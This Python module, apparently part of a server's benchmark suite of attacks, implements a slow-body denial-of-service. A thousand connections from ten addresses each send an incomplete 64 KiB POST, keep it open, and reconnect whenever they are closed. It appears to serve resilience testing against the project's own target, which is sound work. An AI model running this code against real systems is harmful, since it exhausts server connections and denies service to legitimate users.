"""A thousand requests from ten addresses, each with a large body of which the last bytes never come."""

from __future__ import annotations

import asyncio

from benchmarks.attacks.target import Target, pause, stay, together

CONNECTIONS, ADDRESSES, BODY = 1_000, 10, 64 * 1024


async def attack(target: Target, stop: asyncio.Event) -> None:
    """Each keeps a request open, and whoever is closed comes again."""
    await together(*(linger(target, stop, number % ADDRESSES) for number in range(CONNECTIONS)))


async def linger(target: Target, stop: asyncio.Event, stranger: int) -> None:
    """One of them."""
    while not stop.is_set():
        try:
            reader, writer = await target.connect(stranger)
            writer.write(
                f"POST /api/guests HTTP/1.1\r\nHost: {target.address}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {BODY}\r\n\r\n{{".encode()
                + b" " * (BODY - 10)
            )
            await stay(reader, stop)
            writer.transport.abort()
        except (OSError, TimeoutError):
            pass
        await pause(stop, 1.0)
